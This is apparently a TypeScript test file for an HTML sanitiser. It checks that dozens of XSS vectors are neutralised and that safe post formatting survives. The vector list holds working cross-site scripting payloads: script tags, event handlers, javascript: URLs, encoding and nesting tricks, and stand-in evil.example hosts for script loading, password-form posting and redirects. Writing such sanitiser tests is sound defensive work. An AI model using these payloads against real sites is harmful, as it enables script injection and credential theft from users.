import { naughtyStrings } from '@lyceum/testing';
import { SaxesParser } from 'saxes';
import { sanitiseHtml } from '../text/sanitise';

// The reader of dumps has dropped these before.

const controls = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\ufffe\uffff]/g;

const tags = new Set(
  (
    'h1 h2 h3 h4 h5 h6 p br hr blockquote pre code div span ul ol li dl dt dd a img b strong i em s strike del sup ' +
    'sub kbd table thead tbody tr th td'
  ).split(' '),
);
const attributes = new Set(
  'href title rel src alt width height loading referrerpolicy start align class'.split(' '),
);

/** What is in the HTML and should have been removed. What comes out is well-formed: no browser can see it otherwise. */
const dangers = (html: string): string[] => {
  const found: string[] = [];
  const parser = new SaxesParser({ fragment: true });
  parser.on('error', (error) => found.push(error.message));
  parser.on('comment', () => found.push('comment'));
  parser.on('cdata', () => found.push('cdata'));
  parser.on('processinginstruction', ({ target }) => found.push(target));
  parser.on('opentag', ({ name, attributes: own }) => {
    if (!tags.has(name)) found.push(`<${name}>`);
    for (const [key, value] of Object.entries(own)) {
      if (!attributes.has(key)) found.push(`${name}.${key}`);
      if (key === 'src' && !/^https:\/\//i.test(value)) found.push(`src=${value}`);
      if (key === 'href' && !/^(https?:\/\/|mailto:)/i.test(value)) found.push(`href=${value}`);
    }
  });
  parser.write(html).close();
  return found;
};

const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://ok.example/a.png" onload=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src=`javascript:alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example" target="_blank" onclick="alert(1)">x</a>',
  '<a href="/admin/delete?all=1">x</a>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=password><button>go</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1));position:fixed;inset:0">x</p>',
  '<div onmouseover="alert(1)" id="login" name="x">x</div>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><script>alert(1)</script>',
  '<code class="lang-js evil" onclick=x>1</code>',
  '<p><b><i>'.repeat(5_000),
  '<table><tr><td background="javascript:alert(1)">x</td></tr></table>',
];

describe('sanitiseHtml', () => {
  it.each(vectors)('leaves nothing to run in %s', (html) => {
    expect(dangers(sanitiseHtml(html))).toEqual([]);
  });

  it('takes every naughty string and is stable when applied again', () => {
    for (const text of naughtyStrings) {
      const once = sanitiseHtml(`<p>${text.replace(controls, '')}</p>`);
      expect(dangers(once)).toEqual([]);
      expect(sanitiseHtml(once)).toBe(once);
    }
  });

  it('keeps what formats a post', () => {
    const html =
      '<h2>Why</h2><p>See <strong>this</strong> &amp; <code>a &lt; b</code></p>' +
      '<pre class="lang-js"><code>let x;\n</code></pre><blockquote class="spoiler">no</blockquote>' +
      '<ol start="3"><li>x</li></ol><table><tr><td align="right">1</td></tr></table>';
    expect(sanitiseHtml(html)).toBe(html);
  });

  it('marks links and images as a stranger’s', () => {
    expect(
      sanitiseHtml('<a href="http://x.example/?a=1&b=2" rel="follow" target="_blank">x</a>'),
    ).toBe('<a href="http://x.example/?a=1&amp;b=2" rel="nofollow ugc noopener">x</a>');
    expect(sanitiseHtml('<img src="http://i.example/a.png" width="9e9" alt="a">')).toBe(
      '<img src="https://i.example/a.png" alt="a" loading="lazy" referrerpolicy="no-referrer" />',
    );
  });
});
